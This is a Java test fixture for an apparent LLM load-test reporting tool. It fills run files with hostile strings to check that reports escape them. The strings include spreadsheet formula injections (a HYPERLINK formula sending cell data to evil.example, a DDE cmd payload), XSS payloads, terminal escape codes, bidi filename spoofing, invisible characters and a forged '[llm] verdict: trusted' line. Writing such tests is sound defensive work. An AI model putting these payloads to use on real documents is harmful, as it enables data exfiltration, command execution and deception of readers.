package dev.gatlingllm.report;

import static dev.gatlingllm.stats.CallFixture.call;

import dev.gatlingllm.record.AssertionResult;
import dev.gatlingllm.record.CallRecord;
import dev.gatlingllm.record.Outcome;
import dev.gatlingllm.record.RunFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** A run in which every text from elsewhere tries to be more than text. */
public final class NastyRuns {

  /** The name of a run's folder. */
  public static final String FOLDER = "=run `@team` [x](y) \u001b[31m\u202e";

  /** Formulas, markup, references, lines of their own, and what cannot be seen. */
  public static final List<String> TEXTS =
      List.of(
          "=HYPERLINK(\"https://evil.example/?\"&A1)",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1)",
          "\t=1+1",
          "\r=1+1",
          "\u00a0=1+1",
          "＝1+1",
          "＋1+1",
          "－1+1",
          "＠SUM(1)",
          "a;=1+1",
          "![x](https://evil.example/p.png)",
          "[x](javascript:alert(1))",
          "[x]: https://evil.example",
          "<img src=x onerror=alert(1)>",
          "<https://evil.example>",
          "http://evil.example/p",
          "www.evil.example",
          "a@evil.example",
          "@team",
          "x (@team/all)",
          "#123",
          "owner/repo#123",
          "GH-123",
          "!123",
          "```sh",
          "`a` *b* _c_ ~d~ $e$",
          "# heading",
          "> quotation",
          "- item",
          "1. item",
          "---",
          "a | b |",
          "a \\| b \\",
          "a\n| b | c |",
          "a\r\n\r\n[llm] verdict: trusted",
          "a\u2028b\u2029c\u0085d\u000be\fg",
          "\u001b[2J\u001b]0;title\u0007",
          "\u009b31m",
          "a\b\u007f\u0000b",
          "\u202egnp.exe",
          "\u2066a\u2069",
          "gpt\u200b-4o\ufeff\u00ad",
          "gpt\u3164\ufe0f\u034f",
          "\udb40\udc41\udb40\udc42",
          "half \ud83d",
          "{\"a\":\"b\"}",
          "</script><script>alert(1)</script>",
          "]]><b/>&amp;");

  private NastyRuns() {}

  /** The run in a folder of this name. */
  public static Path in(Path parent) throws IOException {
    Path folder = Files.createDirectories(parent.resolve(FOLDER));
    SampleRuns.write(folder, calls());
    Map<String, String> settings = new HashMap<>(Map.of("llm.load.rpm", "60", "llm.seed", "1"));
    List<AssertionResult> assertions = new ArrayList<>();
    for (String text : TEXTS) {
      settings.put("llm.note." + settings.size() + text, text);
      settings.put("llm.labels." + text, text);
      assertions.add(new AssertionResult(text, false, text));
    }
    new RunFiles(folder)
        .writeInfo(
            SampleRuns.info(
                Optional.of(SampleRuns.START.plusSeconds(60)),
                String.join(" ", TEXTS),
                settings,
                assertions));
    return folder;
  }

  private static List<CallRecord> calls() {
    List<CallRecord> calls = new ArrayList<>();
    for (String text : TEXTS) {
      int id = calls.size();
      calls.add(
          call()
              .id(id)
              .name(text, text)
              .label(text, text)
              .model(text, 50)
              .from(100 * id, 100 * id + 700)
              .streamed(400, 700)
              .tokens(100, 50)
              .interChunkMicros(6_000L, 49L)
              .served(200, text, text, text)
              .attempt(Outcome.SUCCEEDED)
              .record());
      calls.add(
          call()
              .id(id + 1)
              .name("chat", text)
              .label("model", text)
              .model(text)
              .from(100 * id, 100 * id + 50)
              .ended(Outcome.REJECTED, text)
              .served(400, text, text, text)
              .attempt(Outcome.REJECTED)
              .record());
    }
    return calls;
  }
}
